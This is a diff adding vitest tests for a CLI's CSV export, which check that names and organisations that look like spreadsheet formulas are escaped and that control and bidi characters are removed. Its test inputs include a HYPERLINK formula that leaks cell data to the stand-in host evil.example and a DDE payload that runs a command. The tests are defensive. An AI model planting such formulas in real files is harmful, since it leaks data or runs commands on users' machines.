@@ -2,6 +2,7 @@ import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { parse } from 'csv-parse/sync';
 import { createTestDatabase, type TestDatabase } from '../helpers/db.js';
 import { runCli } from '../helpers/run-cli.js';
+import { cellText, participantsCsv, type ExportedParticipant } from '../../src/participants/export.js';
 
 let t: TestDatabase;
 beforeEach(async () => {
@@ -52,4 +53,54 @@ describe('npm run export', () => {
     const r = await runCli('src/cli/export.ts', ['--json', '--all'], { DATABASE_PATH: t.path });
     expect(JSON.parse(r.stdout)).toHaveLength(3);
   });
+
+  it('when people named as formulas are exported as CSV, then every such cell is escaped and control characters are gone', async () => {
+    const hostile = [
+      '=HYPERLINK("https://evil.example/?d="&C2,"Jo")',
+      '+HYPERLINK("https://evil.example/?d="&C2,"Jo")',
+      '+1+1',
+      '-2',
+      '@SUM(A1)',
+      '\t=1+1',
+      '\r=1+1',
+      '\uFF1D1+1',
+      'Jo\u0000\u001b[31m Bloggs\u202e',
+    ];
+    for (const [i, name] of hostile.entries()) {
+      await t.db.run(
+        `INSERT INTO people (email, status, name, organisation, status_changed_at, created_at, updated_at, joined_at)
+         VALUES (?, 'active', ?, ?, 'x', '2026-11-05T00:00:00.000Z', 'x', ?)`,
+        [`h${i}@x.gov.uk`, name, i === 0 ? '=cmd|\' /C calc\'!A0' : 'Org', `2026-11-05T10:00:0${i}.000Z`],
+      );
+    }
+    const r = await runCli('src/cli/export.ts', ['--csv'], { DATABASE_PATH: t.path });
+    expect(r.code).toBe(0);
+    const rows = parse(r.stdout, { columns: true }) as Array<Record<string, string>>;
+    const names = rows.slice(2).map((x) => x.name);
+    expect(names).toEqual([
+      `'=HYPERLINK("https://evil.example/?d="&C2,"Jo")`,
+      `'+HYPERLINK("https://evil.example/?d="&C2,"Jo")`,
+      "'+1+1",
+      "'-2",
+      "'@SUM(A1)",
+      // The leading tab or CR goes, so the "=" behind it is seen and escaped.
+      "'=1+1",
+      "'=1+1",
+      "'\uFF1D1+1",
+      'Jo[31m Bloggs',
+    ]);
+    expect(rows[2]!.organisation).toBe(`'=cmd|' /C calc'!A0`);
+    // No cell a spreadsheet would run, and no control character anywhere in the file.
+    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
+    expect(r.stdout.replace(/\r?\n/g, '')).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
+    // A stored phone number (E.164) starts with + too: it is escaped like any other such cell.
+    expect(rows[0]!.phone).toBe("'+447700900123");
+  });
+
+  it('when a cell holds line breaks, tabs or bidi controls, then cellText keeps the words apart and drops the controls', () => {
+    expect(cellText(' Line one\r\nline\ttwo\u2066x\u2069\u0007\n')).toBe('Line one line twox');
+    const row: ExportedParticipant = { email: 'a@b.gov.uk', name: '-1', phone: null, organisation: 'Org', googleId: null, skypeId: null, status: 'active', joinedAt: null };
+    expect(participantsCsv([row]).split('\n')[1]).toBe("a@b.gov.uk,'-1,,Org,,,active,");
+  });
 });
+
